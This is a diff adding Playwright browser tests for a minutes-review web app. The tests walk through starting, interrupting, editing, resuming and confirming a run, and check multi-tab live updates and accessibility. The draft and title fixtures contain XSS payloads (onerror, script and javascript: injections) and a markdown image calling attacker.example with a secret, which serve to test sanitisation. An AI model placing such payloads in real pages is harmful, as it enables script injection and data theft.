@@ -1,0 +1,128 @@
+"""A person brings minutes to a confirmation in the browser, against the whole stack."""
+
+from __future__ import annotations
+
+import asyncio
+import re
+
+import pytest
+from playwright.async_api import BrowserContext, expect
+
+from deploy.offline_model.server import OfflineModel
+from tests.pages.conftest import Tab
+from tests.stack import Stack
+
+pytestmark = pytest.mark.browser
+
+SOURCE = """\
+Anna: Good morning. Ben and Chen are here as well.
+Ben: The budget is 12,500 euro, not more.
+Chen: We ship the prototype on Thursday 14 May.
+Anna: Ben owns the casing, Chen the buttons.
+Ben: We order 25 units for the test.
+"""
+DRAFT = """\
+# Minutes
+
+## Decisions
+
+- The budget is 15,200 euro.
+- The prototype ships on Thursday 14 May.
+
+## Actions
+
+- Ben: the casing.
+- Chen: the buttons.
+- 35 units are ordered for the test.
+
+<img src=x onerror=alert(1)> ![x](https://attacker.example/?q=secret) [go](javascript:alert(1))
+"""
+TITLE = "</title><script>alert(1)</script> Kick-off"
+
+
+async def test_start_watch_interrupt_edit_resume_confirm(
+    tab: Tab, model: tuple[OfflineModel, str]
+) -> None:
+    page, offline = tab.page, model[0]
+    offline.rate = 12
+    await tab.open("/")
+    await expect(page.get_by_text("Simulated model.")).to_be_visible()
+
+    # A refusal stands beside its field and loses nothing.
+    await page.get_by_role("link", name="Paste your own").click()
+    await page.get_by_label("Draft").fill(DRAFT)
+    await page.get_by_label("Source").fill(SOURCE)
+    await page.get_by_label("Rounds at most").fill("99")
+    await page.get_by_role("button", name="Start the run").click()
+    await expect(page.get_by_label("Rounds at most")).to_have_attribute("aria-invalid", "true")
+    await expect(page.locator("#f-title-error")).to_have_text("This must not be empty.")
+    await expect(page.get_by_label("Draft")).to_have_value(DRAFT)
+    await tab.check()
+
+    # Two clicks are one run.
+    await page.get_by_label("Title").fill(TITLE)
+    await page.get_by_label("Rounds at most").fill("4")
+    await page.get_by_role("button", name="Start the run").dblclick()
+    await expect(page.get_by_role("heading", level=1)).to_have_text(TITLE)
+    await expect(page.locator(".stream").first).to_contain_text("items")
+    await expect(page.get_by_text("Live", exact=True)).to_be_visible()
+    await tab.check()
+
+    await page.get_by_label("Why (may stay empty)").fill("a figure is missing")
+    await page.get_by_role("button", name="Interrupt").click()
+    state = page.locator(".state-word")
+    await expect(state).to_contain_text("Interrupted")
+    await expect(page.get_by_text("Interrupted by local.")).to_be_visible()
+    await expect(page.locator("[data-region=steps]")).to_contain_text("Stopped")
+
+    offline.rate = 0
+    await page.get_by_text("Edit the text first").click()
+    text = page.get_by_label("Text of the document")
+    await text.fill(DRAFT.replace("- Chen: the buttons.", "- Chen: the buttons, by 14 May."))
+    await page.get_by_role("button", name="Resume").click()
+    await expect(state).to_contain_text("Needs you")  # without a reload: by events
+    await expect(page.locator("[data-region=changes] ins").first).to_be_visible()
+    await tab.check()
+
+    offered = page.get_by_role("button", name=re.compile(r"Confirm revision \d+"))
+    await offered.click()
+    await expect(state).to_contain_text("Confirmed")
+    shown = page.locator("[data-region=text]")
+    await expect(shown).to_contain_text("12,500 euro")
+    await expect(shown).to_contain_text("the buttons, by 14 May.")
+    await expect(shown.locator("img")).to_have_count(0)
+
+    await tab.open("/runs")
+    await expect(page.locator("tbody tr")).to_have_count(1)
+    await page.get_by_role("link", name="Kick-off").click()
+    await page.get_by_role("link", name="All revisions").click()
+    await tab.check()
+
+
+async def test_eight_tabs_of_one_browser_stay_live_on_one_stream(
+    tab: Tab, context: BrowserContext, site: Stack, model: tuple[OfflineModel, str]
+) -> None:
+    model[0].rate = 5
+    runs = [await site.create() for _ in range(2)]
+    pages = [await context.new_page() for _ in range(8)]
+    streams: list[str] = []
+    for page in pages:
+        page.on("request", lambda r: streams.append(r.url) if "/events" in r.url else None)
+    for number, page in enumerate(pages):
+        await page.goto(f"{tab.origin}/runs/{runs[number % 2]['id']}")
+    for page in pages:
+        await expect(page.get_by_text("Live", exact=True)).to_be_visible()
+    assert all("/api/events?runs=" in url for url in streams)
+    await asyncio.gather(
+        *(site.call("POST", f"/api/runs/{run['id']}/interrupt", {}) for run in runs)
+    )
+    for page in pages:
+        await expect(page.locator(".state-word")).to_contain_text("Interrupted")
+        assert not await page.evaluate("document.hidden")
+
+
+async def test_every_other_page_has_no_fault_that_axe_can_see(tab: Tab) -> None:
+    for path in ("/queue", "/calls", "/settings", "/observe", "/help", "/nowhere"):
+        await tab.open(path)
+        await expect(tab.page.get_by_role("heading", level=1)).to_have_count(1)
+        await tab.check()
